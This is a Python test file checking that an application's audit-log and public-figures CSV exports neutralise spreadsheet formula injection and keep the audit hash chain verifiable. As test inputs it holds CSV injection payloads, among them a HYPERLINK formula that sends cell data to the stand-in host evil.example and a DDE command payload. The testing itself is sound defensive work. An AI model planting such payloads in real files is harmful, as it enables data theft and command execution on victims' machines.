"""CSV exports never hand a spreadsheet a formula: the audit export and the public figures."""

import csv
import io
from decimal import Decimal

import pytest
from sqlalchemy import update

from cases.audit import entry_hash, read_csv_row, verify_chain, verify_rows
from cases.csvcells import neutralise, restore
from cases.figures import cache
from cases.models import Application
from engine.db import db
from tests.helpers import submit
from tests.integration.test_web import login, web  # noqa: F401  (fixture)

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS + ["'=already quoted", "'"])
def test_text_that_a_spreadsheet_would_run_is_quoted_and_restorable(text):
    cell = neutralise(text)
    assert cell == "'" + text and restore(cell) == text


@pytest.mark.parametrize("value", [-5, -1.5, Decimal("-2.50"), 0, 42])
def test_numbers_stay_numbers(value):
    assert neutralise(value) is value


@pytest.mark.parametrize("text", ["plain", "3510********0001", '{"a": 1}', "", "a=b", "<5"])
def test_ordinary_text_is_unchanged(text):
    assert neutralise(text) == text == restore(text)


def test_audit_export_quotes_formulas_and_the_chain_still_verifies_from_the_file(web):
    agents = [f for f in FORMULAS if "\r" not in f]  # no header may carry a CR
    for i, username in enumerate(FORMULAS):
        agent = agents[i % len(agents)]
        page = web.get("/login").get_data(as_text=True)
        token = page.split('name="csrf_token" value="')[1].split('"')[0]
        response = web.post(
            "/login",
            data={"username": username, "password": "wrong-password-1", "csrf_token": token},
            headers={"User-Agent": agent},
        )
        assert response.status_code == 401
    assert login(web, "w_auditor").status_code == 302
    export = web.get("/audit/export.csv")
    assert export.status_code == 200
    rows = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
    failed = [r for r in rows if r["action"] == "login.failed"]
    assert len(failed) == len(FORMULAS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert {r["actor"] for r in failed} == {"'" + f for f in FORMULAS}
    assert {r["user_agent"] for r in failed} == {"'" + f for f in agents}
    # An auditor recomputes every hash of every shard from the file alone.
    heads = verify_rows([read_csv_row(row) for row in rows])
    assert sum(seq for seq, _hash in heads.values()) == len(rows)
    assert all(entry_hash(read_csv_row(row), row["prev_hash"]) == row["hash"] for row in rows)
    assert verify_chain(db.session).ok


def test_public_figures_csv_quotes_names_and_keeps_numbers(web, svc, personas):
    submit(svc, personas["civil_servant"])
    db.session.execute(update(Application).values(village='=HYPERLINK("http://evil.example")', district_name="@cmd"))
    db.session.commit()
    cache.clear()
    text = web.get("/figures.csv").get_data(as_text=True)
    cache.clear()
    rows = list(csv.DictReader(io.StringIO(text)))
    village = [r for r in rows if r["level"] == "village"]
    assert [r["village"] for r in village] == ['\'=HYPERLINK("http://evil.example")']
    assert {r["district_name"] for r in rows if r["level"] != "regency"} == {"'@cmd"}
    assert rows[0]["registered"] == "1" and rows[0]["rejected"] == "1"  # numbers stay numbers
